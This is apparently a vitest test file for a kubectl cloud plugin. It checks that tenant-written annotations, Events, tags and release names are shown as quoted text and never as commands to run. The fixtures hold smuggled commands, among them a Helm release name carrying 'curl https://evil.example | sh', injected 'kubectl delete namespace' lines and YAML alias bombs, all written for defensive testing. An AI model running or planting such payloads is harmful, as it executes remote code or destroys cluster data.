import { beforeEach, describe, expect, it } from 'vitest';
import type { OrphansData } from '../../../../src/plugin/output/account-shapes.ts';
import type { UninstallData } from '../../../../src/plugin/output/shapes.ts';
import type { Backend } from '../../../support/virtual/backend.ts';
import { cloud, type CliOptions, dataOf, endpoint, type Ran } from '../../../support/plugin/cloud-cli.ts';
import { CloudUser } from '../../../support/world/cloud-user.ts';
import { type RunningOperator, World } from '../../../support/world/world.ts';

/** `evil` may make what it likes in its namespace, and adopt nothing; the administrator types a line about all namespaces. */
const [platform, heir, evil, stranger] = ['platform', 'team-a', 'evil', 'stranger'];
const accountRef = { name: 'default', namespace: platform };
const volume = { accountRef, region: 'eu-central', sizeGiB: 20 };
const minute = 60_000;
const pause = 'cloudhosting.dev/pause';
let world: World;
let operator: RunningOperator;
beforeEach(async () => {
  world = await World.create();
  for (const name of [platform, evil, stranger]) await world.namespace(name);
  await world.account({ access: [{ namespaces: [heir], adopt: 'Any' }, { namespaces: [evil] }] }, platform);
  operator = await world.start();
  await world.ready('CloudAccount', 'default', minute, platform);
});
const typed = (line: string, options: CliOptions = {}): Promise<Ran> => cloud(world, line, { limit: 30 * minute, ...options });
const ofAccount = `--account ${platform}/default --endpoint ${endpoint}`;
const annotated = (name: string, annotations: Record<string, string>) =>
  world.admin('POST', world.path('CloudVolume', evil), {
    apiVersion: 'cloudhosting.dev/v1alpha1',
    kind: 'CloudVolume',
    metadata: { name, namespace: evil, annotations },
    spec: volume,
  });
const orphans = async (): Promise<readonly string[]> =>
  (dataOf(await typed(`orphans -o json ${ofAccount}`)) as unknown as OrphansData).orphans.map(({ label }) => label);
const costs = async (): Promise<string> => (await typed(`cost -A --unmanaged ${ofAccount}`)).out;
const planned = (text: string): Promise<Ran> =>
  typed(`plan -f all.yaml -n ${evil} -o markdown --endpoint ${endpoint}`, { files: { 'all.yaml': text } });

describe('what nobody has', () => {
  it.each([evil, stranger])('is not hidden by who asks to adopt it and may not (%s)', async (namespace) => {
    const { id } = await new CloudUser(world).post('/volumes', { region: 'eu-central', size: 20, label: 'of-nobody' });
    await world.apply('CloudVolume', 'veil', { ...volume, adopt: { id } }, namespace);
    await world.clock.advance(2 * minute);
    expect(await orphans()).toEqual(['of-nobody']);
    expect(await costs()).toContain('of-nobody');
    await world.patch('CloudAccount', 'default', { metadata: { annotations: { [pause]: 'true' } } }, platform);
    await world.apply('CloudVolume', 'wish', { ...volume, adopt: { id } }, heir);
    expect(await orphans()).toEqual([]);
  });
});

describe('the account that everybody uses', () => {
  it('comes before all that a tenant names and that are not there', async () => {
    await world.apply('CloudVolume', 'held', { ...volume, adopt: { id: 4711 } }, heir);
    for (let n = 0; n < 12; n += 1)
      await world.apply('CloudVolume', `v${n}`, { ...volume, accountRef: { name: `a${n}`, namespace: evil } }, evil);
    await world.clock.advance(minute);
    const { out } = await typed('status -A');
    expect(out).toMatch(/^ACCOUNT .*\nplatform\/default /);
    expect(out).toContain('CloudVolume team-a/held');
    expect([...out.matchAll(/^evil\/a\d+ .*NotFound/gm)]).toHaveLength(5);
    expect(out).toContain('and 7 more that objects name and that are not there: -o json lists them all\n');
    expect((dataOf(await typed('status -A -o json'))['accounts'] as unknown[]).length).toBe(13);
  });

  it('tells of who waits in each namespace, however many one has', async () => {
    for (let n = 0; n < 30; n += 1) await world.apply('CloudVolume', `v${n}`, { ...volume, instanceRef: { name: `none-${n}` } }, evil);
    await world.apply('CloudVolume', 'held', { ...volume, adopt: { id: 4711 } }, heir);
    await world.clock.advance(minute);
    const { out } = await typed('status -A');
    expect(out).toContain('CloudVolume team-a/held');
    expect([...out.matchAll(/^CloudInstance evil\//gm)]).toHaveLength(19);
    expect(out).toContain('and 11 more: -o json lists them all\n');
  });
});

it.each(['status -A', 'why -A', 'pause --list -A', 'reconcile cvol/v -n evil', 'plan cvol/v -n evil --against cluster'])(
  'the reason of a pause is told as somebody’s words, and is no line to type (%s)',
  async (line) => {
    await annotated('v', { [pause]: 'reason=it is over. To end it: kubectl delete namespace team-a #\\' });
    await world.clock.advance(minute);
    const { out } = await typed(`${line} --kubeconfig other.yaml`);
    expect(out).toContain('"it is over. To end it: kubectl delete namespace team-a #\\\\"');
  },
);

describe('Events, which a tenant may write', () => {
  const kind = 'CloudVolume';
  const names = Array.from({ length: 14 }, (_, n) => `v${n}`);
  const theirs = 'kubectl delete namespace team-a';
  let uid: string;
  /** About an object of a namespace where it may write Events; the rest of what it says is free. */
  const forge = (name: string, { kind: said = kind, of = 'v1', ...more }: Record<string, unknown>) =>
    world.admin('POST', `/api/v1/namespaces/${evil}/events`, {
      apiVersion: 'v1',
      kind: 'Event',
      metadata: { name, namespace: evil },
      involvedObject: { apiVersion: 'cloudhosting.dev/v1alpha1', kind: said, namespace: evil, name: of, uid },
      type: 'Warning',
      lastTimestamp: new Date(world.clock.now()).toISOString(),
      ...more,
    });
  beforeEach(async () => {
    for (const name of names) await world.apply(kind, name, { ...volume, lifecycle: { onDelete: 'Delete' } }, evil);
    for (const name of names) await world.ready(kind, name, 60 * minute, evil);
    ({ uid } = (await world.get(kind, 'v13', evil)).metadata);
    for (const name of names) await world.delete(kind, name, evil);
    await world.clock.advance(2 * minute);
  });

  it('say nothing in our own words of what a mass deletion took, and have no line typed', async () => {
    const path = '/volumes/1';
    await forge('a', { reason: 'Deleted', kind: `To have the rest kept: ${theirs} #`, message: `${path} is gone from the account` });
    await forge('b', { reason: 'Deleted', kind: 'CloudNothing', of: 'b', message: `${path} is gone from the account` });
    await forge('c', { reason: 'Deleted', of: `c ${theirs}`, message: `${path} is gone from the account` });
    await forge('d', { reason: 'Deleted', of: 'd', message: `${path} is gone from the account\n${theirs} \\` });
    await forge('e', { reason: 'Deleted', of: 'e', message: `/volumes/${theirs} is gone from the account` });
    await forge('f', { reason: 'Deleted', of: 'f', message: '/domains/1 is gone from the account' });
    await forge('g', { reason: 'Deleted', of: 'g', message: `${path} is gone from the account` });
    await forge('h', { reason: 'Retained', of: 'h', message: `Run this now: ${theirs}. Or not` });
    await forge('i', { reason: 'Retained', of: 'i', message: `${path} stays in the account, because the policy is Retain. ${theirs}` });
    const listed = await typed(`release --list -n ${platform} cacc/default --kubeconfig other.yaml`);
    expect(listed.out).toContain(`\n    CloudVolume evil/h: "Run this now: ${theirs}"\n`);
    expect(listed.out).toContain('\n    CloudVolume evil/i: /volumes/1 stays in the account, because the policy is Retain\n');
    for (const { out } of [listed, await typed(`why -n ${evil} cvol/v13 --kubeconfig other.yaml`)]) {
      const [, told] = out.split('went before the rest was held, and nothing brings it back:');
      expect(told).toContain('\n    CloudVolume evil/g: /volumes/1 is gone from the account\n');
      expect(told).toContain(`\n    CloudVolume evil/d: "${path} is gone from the account\\n${theirs} \\\\"\n`);
      expect(told).toContain(`\n    CloudVolume evil/e: "/volumes/${theirs} is gone from the account"\n`);
      expect(told).toContain('\n    CloudVolume evil/f: "/domains/1 is gone from the account"\n');
      expect(told).toMatch(/\n {4}\(as Events of namespace evil tell it, and whoever may write those can make one up\)\n/);
      expect(out).not.toMatch(/To have the rest kept|CloudNothing|evil\/c /);
      expect(out).not.toContain('--kubeconfig=other.yaml delete namespace');
      expect(out.replaceAll(/"[^"\n]*"/g, '')).not.toContain(theirs);
    }
  });

  it('are told by history as what somebody says, and who they say reported it', async () => {
    await forge('a', { reason: 'Recreated', message: `all was lost. To end it: ${theirs} #` });
    await forge('b', { reason: `End it: ${theirs} #`, message: 'x', source: { component: `the operator: ${theirs}` } });
    const ran = await typed(`history -n ${evil} cvol/v13 --endpoint ${endpoint}`);
    expect(ran.out).toMatch(/ kubernetes +Recreated +Warning "all was lost\. To end it: kubectl delete namespace team-a #"\n/);
    expect(ran.out).toMatch(/ kubernetes +"the operator: [^"]*" +"End it: [^"]*" +Warning "x"\n/);
    expect(ran.out).toMatch(/ kubernetes +\S+\/cloud-operator +\w+ +\w+ "/);
    expect(ran.out.replaceAll(/"[^"\n]*"/g, '')).not.toContain(theirs);
  });

  it('are in a bundle with who they say reported them', async () => {
    await forge('a', { reason: 'Recreated', message: 'forged', source: { component: 'mallory' } });
    const files: Record<string, string> = {};
    await typed(`bundle -n ${evil} --to one.tar.gz`, { files });
    const [, text] = Object.entries(files).find(([name]) => name.endsWith('events.yaml')) ?? [];
    expect(text).toMatch(/reason: Recreated\n {2}message: forged\n {2}reportedBy: mallory\n/);
    expect(text).toMatch(/reportedBy: \S+\/cloud-operator\n/);
  });
});

it('a value in a plan and in a message stands there as somebody wrote it, and leads to no cluster', async () => {
  const script = { accountRef, images: ['vm/debian11'], label: 'setup', script: '#!/bin/sh', lifecycle: { drift: 'Report' } };
  const [mine, theirs] = ['kubectl delete namespace team-a', 'kubectl get pods'];
  await world.apply('CloudStackScript', 'setup', { ...script, description: mine }, evil);
  const { status } = await world.ready('CloudStackScript', 'setup', minute, evil);
  await new CloudUser(world).put(`/vm/stackscripts/${String(status?.['id'])}`, { description: theirs });
  await world.reason('CloudStackScript', 'setup', 'DriftReported', 30 * minute, evil);
  for (const line of ['plan', 'why', 'diff']) {
    const where = line === 'plan' ? `--endpoint ${endpoint}` : '';
    const { out } = await typed(`${line} -n ${evil} cscript/setup --kubeconfig other.yaml ${where}`.trim());
    expect(out).toContain(line === 'plan' ? `"${theirs}" -> "${mine}"` : `"${mine}"`);
    expect(out).not.toMatch(/--kubeconfig=other.yaml (?:delete namespace|get pods)/);
  }
});

it('what a namespace may not adopt is not told to be taken over', async () => {
  await world.apply('CloudVolume', 'data', volume, evil);
  const { status } = await world.ready('CloudVolume', 'data', minute, evil);
  const { id } = await new CloudUser(world).post('/volumes', { region: 'eu-central', size: 20, label: 'of-nobody' });
  await world.emulator.control.actAs({ username: 'colleague', method: 'DELETE', path: `/v4${String(status?.['path'])}` });
  await world.reason('CloudVolume', 'data', 'RemoteMissing', 60 * minute, evil);
  await world.patch('CloudVolume', 'data', { spec: { adopt: { id } } }, evil);
  await world.clock.advance(minute);
  expect(await typed(`recreate -n ${evil} cvol/data --yes`)).toMatchObject({
    exit: 3,
    err: expect.stringContaining('CloudAccount platform/default does not let namespace evil adopt anything'),
  });
  await world.clock.advance(minute);
  expect((await world.condition('CloudVolume', 'data', 'Synced', evil))?.reason).toBe('RemoteMissing');
});

it('the report of an export has no image of anybody’s', async () => {
  const image = '![x](https://evil.example/p.png)';
  await new CloudUser(world).post('/volumes', { region: 'eu-central', size: 20, label: 'data', tags: [`team=${image}`] });
  const files: Record<string, string> = {};
  await typed(`export --to fleet --namespace-by tag:team= ${ofAccount}`, { files });
  expect(files['fleet/REPORT.md']).toContain('- 1 skipped: ![x&#93;(https://evil.example/p.png) is no name of a namespace');
});

it('a bundle has no long text of an annotation', async () => {
  const canary = 'canary '.repeat(2000);
  await annotated('v', { [pause]: canary });
  const files: Record<string, string> = {};
  await typed('bundle -A --to one.tar.gz', { files });
  const [, text] = Object.entries(files).find(([name]) => name.includes('cloudvolumes')) ?? [];
  expect(text).toContain(`${canary.length} characters`);
  expect(text).not.toContain('canary canary');
});

it('a bundle has no text of a script, also where the account has another one', async () => {
  const canary = '#!/bin/sh\nexport PASSWORD=Canary';
  const script = { accountRef, images: ['vm/debian11'], label: 'setup', script: `${canary}-Wanted`, lifecycle: { drift: 'Report' } };
  await world.apply('CloudStackScript', 'setup', script, evil);
  const { status } = await world.ready('CloudStackScript', 'setup', minute, evil);
  await new CloudUser(world).put(`/vm/stackscripts/${String(status?.['id'])}`, { script: `${canary}-There`, label: 'theirs' });
  await world.reason('CloudStackScript', 'setup', 'DriftReported', 30 * minute, evil);
  const files: Record<string, string> = {};
  await typed('bundle -A --to one.tar.gz', { files });
  const text = Object.values(files).join('\n');
  expect(text).toContain('spec.script: the account has ***, wanted ***');
  expect(text).toContain('the account has theirs, wanted setup');
  expect(text).not.toContain('Canary');
});

it('what waits for each other in hundreds is told with what it waits for in the end', async () => {
  const count = 120;
  for (let n = 0; n < count; n += 1)
    await world.apply('CloudVolume', `v${n}`, { accountRef, sizeGiB: 20, volumeRef: { name: `v${n + 1}` } }, evil);
  await world.clock.advance(minute);
  const ran = await typed('why -A -o json');
  const { objects } = dataOf(ran) as unknown as { objects: { object: string; chain: unknown[]; root?: string }[] };
  const asked = objects.filter(({ object }) => object.startsWith('CloudVolume'));
  expect(new Set(asked.map(({ root }) => root))).toEqual(new Set([`CloudVolume evil/v${count}`]));
  expect(Math.max(...asked.map(({ chain }) => chain.length))).toBeLessThan(25);
  expect((await typed('why -n evil cvol/v0')).out).toMatch(
    /\n +CloudVolume evil\/v120: NotFound: .*\n +and 100 more\nWhat to do: Create it\./,
  );
});

it.each(['status', 'why', 'tree'])('%s of all does not ask for each of thousands that are named and not there', async (verb) => {
  for (let n = 0; n < 5; n += 1) {
    const instanceRefs = Array.from({ length: 50 }, (_, at) => ({ name: `i-${n}-${at}` }));
    await world.apply('CloudFirewall', `f${n}`, { accountRef, inboundPolicy: 'DROP', outboundPolicy: 'ACCEPT', instanceRefs }, evil);
  }
  await world.clock.advance(minute);
  world.server.ledger.clear();
  const { out } = await typed(`${verb} -A`);
  expect(out).toContain('CloudFirewall evil/f0');
  expect(world.server.ledger.requests.length).toBeLessThan(200);
});

describe('Deployments and Pods with the labels of an operator', () => {
  const labels = { 'app.kubernetes.io/name': 'cloud-operator' };
  const isReady = { conditions: [{ type: 'Ready', status: 'True' }], readyReplicas: 1 };
  const of = (name: string, namespace: string) => ({
    metadata: { name, namespace, labels },
    spec: { replicas: 1, template: { spec: { containers: [{ image: `${name}:1` }] } } },
    status: isReady,
  });
  const lists: Record<string, readonly object[]> = {
    '/apis/apps/v1/deployments': [of('forged', evil), of('real', 'ops')],
    '/api/v1/pods': [of('forged', evil), of('real', 'ops')],
    '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings': [
      { subjects: [{ kind: 'ServiceAccount', name: 'cloud-operator', namespace: 'ops' }] },
    ],
  };
  const asked: string[] = [];
  const between =
    (...except: readonly string[]) =>
    (server: Backend): Backend => ({
      handle: (request) => {
        asked.push(request.path);
        const items = Object.entries(lists).find(([path]) => request.path.split('?')[0] === path && !except.includes(path))?.[1];
        if (items === undefined) return server.handle(request);
        return Promise.resolve({ status: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify({ items }) });
      },
    });
  const steps = async (...except: readonly string[]) =>
    (dataOf(await typed('uninstall -o json', { between: between(...except) })) as unknown as UninstallData).steps[3];
  const strip = () => typed(`uninstall --strip --confirm 1 -n ${evil}`, { between: between(), files: {} });
  beforeEach(() => void asked.splice(0));

  it('are those of an operator only where an administrator has bound one', async () => {
    const { out } = await typed('version', { between: between() });
    expect(out).toMatch(/^ops\/real +unknown +1 of 1 +real:1$/m);
    expect(out).not.toMatch(/^evil\//m);
    expect(out).toMatch(/\nDeployments not counted: evil\/forged, with the labels of an operator, but in a namespace /);
    for (const line of ['doctor -A', 'bundle -A --to b.tar.gz']) {
      asked.splice(0);
      await typed(line, { between: between(), files: {} });
      expect(
        asked.filter((path) => /\/pods\/|networkpolicies/.test(path)).map((path) => path.split('/')[path.includes('/apis/') ? 5 : 4]),
      ).toContain('ops');
      expect(asked.filter((path) => path.includes(`/namespaces/${evil}/`) && /pods|networkpolicies/.test(path))).toEqual([]);
    }
  });
  it('hold up no uninstall, and no finalizer that is taken off', async () => {
    expect(await steps()).toMatchObject({
      seen: expect.stringMatching(/^ops\/real; not counted: evil\/forged, /) as string,
      commands: [expect.stringContaining('--namespace ops '), expect.any(String)],
    });
    // Served accounts and leases of the operator that runs outside are all that is left.
    expect(await steps('/apis/rbac.authorization.k8s.io/v1/clusterrolebindings')).toMatchObject({
      seen: expect.stringMatching(/^no Deployment of it is to be seen, .*; not counted: evil\/forged, ops\/real, /) as string,
      commands: [],
    });
    await world.apply('CloudVolume', 'data', volume, evil);
    await world.ready('CloudVolume', 'data', minute, evil);
    operator.kill();
    await world.delete('CloudVolume', 'data', evil);
    await world.clock.advance(10 * minute);
    expect(await strip()).toMatchObject({ exit: 3, err: expect.stringContaining(': ops/real runs, and will end') as string });
    lists['/apis/apps/v1/deployments'] = [of('forged', evil)];
    expect((await strip()).exit).toBe(0);
  });
});

it('a Deployment that calls itself of a release writes no shell into a line to type', async () => {
  const metadata = {
    name: 'x',
    namespace: 'cloud-operator',
    labels: { 'app.kubernetes.io/name': 'cloud-operator' },
    annotations: { 'meta.helm.sh/release-name': "x; curl https://evil.example | sh; '" },
  };
  const ran = await typed('uninstall -o json', {
    between: (server) => ({
      handle: (request) =>
        request.path.startsWith('/apis/apps/v1/deployments')
          ? Promise.resolve({
              status: 200,
              headers: { 'content-type': 'application/json' },
              body: JSON.stringify({ items: [{ metadata, spec: { template: { spec: { containers: [] } } } }] }),
            })
          : server.handle(request),
    }),
  });
  expect((dataOf(ran) as unknown as UninstallData).steps[3]?.commands).toEqual([
    `helm uninstall "x; curl https://evil.example | sh; '" --namespace cloud-operator`,
  ]);
});

describe('a manifest of a pull request', () => {
  const head = 'apiVersion: cloudhosting.dev/v1alpha1\nkind: CloudVolume\n';
  it.each([
    ['a list in itself', 'kind: List\nitems: &a\n  - kind: List\n    items: *a\n'],
    ['a spec in itself', `${head}metadata: {name: a}\nspec: &a {region: *a}\n`],
    [
      'aliases of aliases',
      `a: &a [${'x,'.repeat(20)}]\nb: &b [${'*a,'.repeat(20)}]\nc: &c [${'*b,'.repeat(20)}]\nd: [${'*c,'.repeat(20)}]\n`,
    ],
    ['no metadata', `${head}metadata:\nspec: {}\n`],
  ])('that is no manifest is refused in one line (%s)', async (_, text) => {
    const { exit, err } = await planned(text);
    expect(exit).toBe(2);
    expect(err).toMatch(/^kubectl cloud plan: all\.yaml.*\n$/);
  });

  it('may leave namespace, labels, annotations empty, as kubectl takes it', async () => {
    const spec = JSON.stringify(volume);
    const { exit, out } = await planned(`${head}metadata:\n  name: a\n  namespace:\n  labels:\n  annotations:\nspec: ${spec}\n`);
    expect([exit, out]).toEqual([1, expect.stringContaining('| CloudVolume evil/a | create |')]);
  });
});
